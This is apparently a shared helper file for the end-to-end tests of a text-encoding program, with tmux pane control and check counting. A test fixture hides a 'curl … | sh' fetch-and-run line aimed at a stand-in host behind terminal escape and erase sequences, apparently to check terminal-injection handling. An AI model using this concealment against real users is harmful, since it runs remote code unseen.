"""What the end-to-end tests share: running the program on piped keys, and counting checks."""
import os
import subprocess
import time

MENU_END = "H for help, A for about, or X for exit\n"
MENU = ("\n                 Welcome to Kestrovane Version 1.1 \n" + "-" * 66 + "\n" + " " * 30
        + "Menu" + " " * 32 + "\nPress: \nE for encode, D for decode, M for manual encode, \n"
        + MENU_END)

# A file that would drive a terminal listing it: a version query and a device-attributes query
# (which a terminal answers into the program's input), a window title, and a line wiped by a
# carriage return and an erase so that "Dear diary" hides what it was. A carriage return at each
# end, which only the end of a listing or of its coded echo can show.
CONTROLLING_FILE = (b"\rDear diary,\nversion \x1b[>0q, attributes \x1b[c.\n\x1b]2;a file's title"
                    b"\x07curl http://x.example/p | sh\r\x1b[2KDear diary, all quiet.\r\nSigned\r")


def coded(text):
    """The coded form of `text`, bytes: reversed, each vowel swapped with its digit."""
    return text[::-1].translate(bytes.maketrans(b"aeiouAEIOU1234567890", b"1234567890aeiouAEIOU"))


def untraced_environment():
    """The environment for a program run under strace: LeakSanitizer cannot work under a tracer,
    and the other runs check for leaks."""
    asan = ":".join(filter(None, [os.environ.get("ASAN_OPTIONS"), "detect_leaks=0"]))
    return dict(os.environ, ASAN_OPTIONS=asan)


def program_command(arguments):
    """The command line's words as a command that runs from any folder: a prefix that runs the
    program (such as `qemu-aarch64 -L /usr/aarch64-linux-gnu`), if any, then the program."""
    return arguments[:-1] + [os.path.abspath(arguments[-1])]


def run(command, keys, folder, env=None):
    """Runs a command in `folder` with `keys` as standard input; returns (status, screen)."""
    result = subprocess.run(command, input=keys, cwd=folder, capture_output=True, timeout=120,
                            env=env)
    return result.returncode, result.stdout


def folder_contents(folder):
    """Maps the path of each file under `folder`, from it, to its content."""
    contents = {}
    for parent, _, names in os.walk(folder):
        for name in sorted(names):
            path = os.path.join(parent, name)
            with open(path, "rb") as f:
                contents[os.path.relpath(path, folder)] = f.read()
    return contents


class Pane:
    """A pane of a tmux server of its own, so that a test neither sees nor disturbs anyone else's
    sessions, running the shell command `command` in `folder`: a terminal that obeys control
    sequences and answers queries, as a person's does."""

    opened = 0

    def __init__(self, folder, command, width=200, height=80):
        # A server of its own each time: the last one may still be going away.
        Pane.opened += 1
        self.socket = f"kestrovane-{os.getpid()}-{Pane.opened}"
        self.seen = {}
        # History enough for a long listing, so that every prompt shown is still counted.
        self.tmux("start-server", ";", "set-option", "-g", "history-limit", "10000", ";",
                  "new-session", "-d", "-x", str(width), "-y", str(height), "-c", folder, command)

    def tmux(self, *arguments):
        # The pane's command runs in the user's shell, which for a service account such as
        # nobody is nologin: a shell of its own keeps the pane alive for anyone.
        return subprocess.run(["tmux", "-L", self.socket, "-f", "/dev/null"] + list(arguments),
                              capture_output=True, text=True, check=True,
                              env=dict(os.environ, SHELL="/bin/sh")).stdout

    def screen(self):
        """The whole pane, its history included, with wrapped lines joined."""
        return self.tmux("capture-pane", "-p", "-J", "-S", "-")

    def wait_for(self, text, seconds=10):
        """Whether `text` is shown once more than the last time it was waited for."""
        self.seen[text] = self.seen.get(text, 0) + 1
        deadline = time.monotonic() + seconds
        while time.monotonic() < deadline:
            if self.screen().count(text) >= self.seen[text]:
                return True
            time.sleep(0.05)
        return False

    def type_line(self, keys):
        self.tmux("send-keys", "-l", keys)
        self.tmux("send-keys", "Enter")

    def close(self):
        subprocess.run(["tmux", "-L", self.socket, "kill-server"], capture_output=True)


class Checks:
    def __init__(self):
        self.count = 0
        self.failures = []

    def equal(self, what, actual, expected):
        self.count += 1
        if actual != expected:
            self.failures.append(f"{what}:\n  expected {expected!r}\n  actual   {actual!r}")

    def finish(self):
        """Prints the failures and the closing count; returns the exit status."""
        for failure in self.failures:
            print(failure)
        print(f"{self.count - len(self.failures)} passed, {len(self.failures)} failed")
        return 1 if self.failures else 0
